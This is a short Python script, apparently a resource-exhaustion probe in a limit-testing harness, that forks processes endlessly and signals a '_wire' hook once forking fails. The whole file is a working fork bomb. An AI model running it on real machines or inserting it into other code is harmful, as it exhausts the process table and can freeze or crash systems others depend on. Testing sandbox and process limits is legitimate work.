"""Takes as many processes as the kernel gives it, and tries for more."""

import os
import time

from _wire import up

KIND = "cpu"

told = False
while True:
    try:
        if os.fork() == 0:
            time.sleep(1000)
    except OSError:
        if not told:
            up()
            told = True
        time.sleep(0.01)
